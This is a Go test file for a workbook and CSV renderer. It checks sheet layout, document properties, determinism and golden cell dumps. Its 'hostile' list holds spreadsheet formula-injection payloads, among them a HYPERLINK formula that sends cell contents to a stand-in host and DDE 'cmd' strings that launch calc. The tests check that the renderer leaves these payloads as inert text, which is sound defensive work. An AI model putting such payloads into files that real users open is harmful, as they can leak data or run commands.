package xlsx

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/triptych/triptych/content"
	"github.com/triptych/triptych/internal/painttest"
	"github.com/triptych/triptych/internal/readers"
	"github.com/triptych/triptych/internal/testkit"
	"github.com/triptych/triptych/render"
)

func load(t testing.TB, path string) *content.Article {
	return testkit.Load(t, strings.TrimPrefix(path, "../../"))
}

func seed(t testing.TB) *content.Article { return testkit.Seed(t) }

func renderXLSX(t testing.TB, a *content.Article) []byte {
	t.Helper()
	return renderWith(t, a, render.Options{Version: "1.2.3"})
}

// renderWith renders a workbook with options; TestMain reads it back
// with openpyxl and LibreOffice after the tests.
func renderWith(t testing.TB, a *content.Article, opts render.Options) []byte {
	t.Helper()
	res, err := painttest.PaintErr(Renderer{}, a, opts)
	if err != nil {
		t.Fatal(err)
	}
	data := res.Files[0].Data
	record(a.Source, data)
	return data
}

func TestOpenpyxlReadsTheSeed(t *testing.T) {
	readers.NeedOpenpyxl(t)
	a := seed(t)
	path := readers.WriteTemp(t, "seed.xlsx", renderXLSX(t, a))
	out := readers.Run(t, readers.Python, "testdata/check.py", path)
	var got struct {
		Sheets      []string                                      `json:"sheets"`
		Tables      map[string]struct{ Sheet, Ref, Style string } `json:"tables"`
		Formulas    map[string]int                                `json:"formulas"`
		Freeze      string                                        `json:"freeze"`
		PrintTitles string                                        `json:"print_titles"`
		Orientation string                                        `json:"orientation"`
		FitWidth    int                                           `json:"fit_width"`
		Rows        [][]string                                    `json:"rows"`
		Header      []string                                      `json:"header"`
		Title       string                                        `json:"title"`
		Props       map[string]string                             `json:"props"`
	}
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if strings.Join(got.Sheets, ",") != "Comparison,Scorecard,Terms,About" {
		t.Errorf("sheets %q", got.Sheets)
	}
	if len(got.Rows) != len(a.Table.Rows) {
		t.Fatalf("%d rows, want %d", len(got.Rows), len(a.Table.Rows))
	}
	for i, r := range a.Table.Rows {
		want := append([]string{r.Aspect}, r.Cells...)
		if strings.Join(got.Rows[i], "|") != strings.Join(want, "|") {
			t.Errorf("row %d = %q, want %q", i+1, got.Rows[i], want)
		}
	}
	if got.Freeze != "A5" || got.PrintTitles != "$4:$4" || got.Orientation != "landscape" || got.FitWidth != 1 {
		t.Errorf("freeze %q, print titles %q, orientation %q, fit %d", got.Freeze, got.PrintTitles, got.Orientation, got.FitWidth)
	}
	if c, ok := got.Tables["Comparison"]; !ok || c.Ref != "A4:C11" || c.Sheet != "Comparison" {
		t.Errorf("comparison table: %+v", got.Tables)
	}
	if c, ok := got.Tables["Terms"]; !ok || c.Ref != "A1:B11" {
		t.Errorf("terms table: %+v", got.Tables)
	}
	// Formulas only on the scorecard: a total per subject and the best fit.
	if len(got.Formulas) != 1 || got.Formulas[SheetScorecard] != len(a.Table.Subjects)+1 || got.Title != a.Title || strings.Join(got.Header, "|") != "Aspect|Software Engineer|Platform SRE" {
		t.Errorf("formulas %v, title %q, header %q", got.Formulas, got.Title, got.Header)
	}
	if got.Props["title"] != a.Title || got.Props["creator"] != "Author" || !strings.HasPrefix(got.Props["created"], "2025-04-21") {
		t.Errorf("properties %v", got.Props)
	}
}

// hostile is a value for every formula trigger, plus Excel's own escape.
var hostile = []string{"=HYPERLINK(\"http://x.invalid/?d=\"&A2,\"cv\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
	"\t=1+1", "\r=1+1", "＝1+1", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "{=1+1}", "_x0041_ literal", "=cmd|' /C calc'!A0"}

// TestCompatibilityFormsAreTriggers: signs that NFKC folds into a formula
// trigger (small and full-width forms) are defused like the sign itself.
func TestCompatibilityFormsAreTriggers(t *testing.T) {
	for _, s := range []string{"﹦1+1", "＝1", "﹢1", "＋1", "﹣1", "－1", "﹫x", "＠x"} {
		if !IsFormulaTrigger(s) {
			t.Errorf("%q is not a trigger", s)
		}
	}
	for _, s := range []string{"1=1", "Yes", "", "€5", "（1）"} {
		if IsFormulaTrigger(s) {
			t.Errorf("%q is a trigger", s)
		}
	}
}

func hostileArticle(t testing.TB) *content.Article {
	a := seed(t)
	c := *a
	c.Title, c.Author = hostile[0], hostile[3]
	c.Table.Rows = nil
	for i, h := range hostile {
		c.Table.Rows = append(c.Table.Rows, content.Row{Aspect: h, Cells: []string{h, fmt.Sprintf("plain %d", i)}})
	}
	c.Terms = []content.Term{{Name: hostile[1], Definition: []content.Paragraph{content.PlainParagraph(hostile[2], 0)}}}
	return &c
}

func TestFormulaLikeTextStaysText(t *testing.T) {
	a := hostileArticle(t)
	data := renderXLSX(t, a)
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		rc, _ := f.Open()
		body, _ := io.ReadAll(rc)
		rc.Close()
		// The scorecard (sheet2) computes; no other part holds a formula.
		if f.Name != "xl/worksheets/sheet2.xml" && (bytes.Contains(body, []byte("<f>")) || bytes.Contains(body, []byte("<f "))) {
			t.Errorf("%s holds a formula element", f.Name)
		}
	}
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for i, h := range hostile {
		for col, want := range map[string]string{"A": h, "B": h} {
			got, _ := x.GetCellValue(SheetComparison, fmt.Sprintf("%s%d", col, headerRow+1+i))
			if got != want {
				t.Errorf("%s%d = %q, want %q", col, headerRow+1+i, got, want)
			}
		}
	}
}

func TestFormulaLikeTextReadsAsTextInOpenpyxl(t *testing.T) {
	readers.NeedOpenpyxl(t)
	path := readers.WriteTemp(t, "h.xlsx", renderXLSX(t, hostileArticle(t)))
	out := readers.Run(t, readers.Python, "-c", `
import openpyxl, json, sys
ws = openpyxl.load_workbook(sys.argv[1])["Comparison"]
print(json.dumps([[c.value, c.data_type, c.number_format] for c in ws["A"][4:]]))`, path)
	var cells [][]any
	if err := json.Unmarshal([]byte(out), &cells); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		if cells[i][0] != h || cells[i][1] != "s" || cells[i][2] != "@" {
			t.Errorf("openpyxl reads %q, want %q as text with format @", cells[i], h)
		}
	}
}

func TestWorkbookIsDeterministicAndOwnsItsProperties(t *testing.T) {
	a := seed(t)
	one, two := renderXLSX(t, a), renderXLSX(t, a)
	if !bytes.Equal(one, two) {
		t.Fatal("two renders differ")
	}
	zr, _ := zip.NewReader(bytes.NewReader(one), int64(len(one)))
	for _, f := range zr.File {
		if f.Name != "docProps/core.xml" && f.Name != "docProps/app.xml" {
			continue
		}
		rc, _ := f.Open()
		body, _ := io.ReadAll(rc)
		rc.Close()
		for _, bad := range []string{"xuri", "Go Excelize", "2006-09-16"} {
			if bytes.Contains(body, []byte(bad)) {
				t.Errorf("%s keeps the library default %q", f.Name, bad)
			}
		}
	}
}

// TestCellDumpGolden keeps a text dump of every cell of the seed's workbook;
// UPDATE_GOLDEN=1 rewrites it.
func TestCellDumpGolden(t *testing.T) {
	for _, src := range []string{"../../examples/software-engineer-vs-platform-sre.md", "../../testdata/articles/python-vs-java-vs-go.txt"} {
		data := renderXLSX(t, load(t, src))
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for _, sheet := range x.GetSheetList() {
			rows, _ := x.GetRows(sheet)
			fmt.Fprintf(&b, "[%s]\n", sheet)
			for i, r := range rows {
				h, _ := x.GetRowHeight(sheet, i+1)
				fmt.Fprintf(&b, "%d (%.1fpt): %q\n", i+1, h, r)
			}
		}
		x.Close()
		golden := filepath.Join("testdata", strings.TrimSuffix(filepath.Base(src), filepath.Ext(src))+".cells")
		if os.Getenv("UPDATE_GOLDEN") == "1" && os.Getenv("CI") != "true" {
			os.WriteFile(golden, []byte(b.String()), 0o644)
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatalf("%v (UPDATE_GOLDEN=1 creates it)", err)
		}
		if string(want) != b.String() {
			t.Errorf("%s differs:\n%s", golden, b.String())
		}
	}
}

func TestCSV(t *testing.T) {
	a := hostileArticle(t)
	for _, bom := range []bool{false, true} {
		res, err := painttest.PaintErr(CSVRenderer{}, a, render.Options{CSVBOM: bom})
		if err != nil {
			t.Fatal(err)
		}
		data := res.Files[0].Data
		if bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) != bom {
			t.Errorf("BOM %v: wrong start %q", bom, data[:3])
		}
		if !bytes.Contains(data, []byte("\r\n")) {
			t.Error("lines do not end in CRLF")
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xEF\xBB\xBF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != len(a.Table.Rows)+1 {
			t.Fatalf("%d records", len(recs))
		}
		for i, h := range hostile {
			want := h
			if IsFormulaTrigger(h) {
				want = "'" + h
			}
			// RFC 4180 line ends are CRLF, so a bare CR inside a value does
			// not survive encoding/csv; the loaders remove CR from article
			// text before any renderer sees it.
			want = strings.ReplaceAll(want, "\r", "")
			if recs[i+1][0] != want {
				t.Errorf("record %d = %q, want %q", i+1, recs[i+1][0], want)
			}
		}
	}
}

func BenchmarkXLSX(b *testing.B) {
	a := seed(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := painttest.PaintErr(Renderer{}, a, render.Options{}); err != nil {
			b.Fatal(err)
		}
	}
}
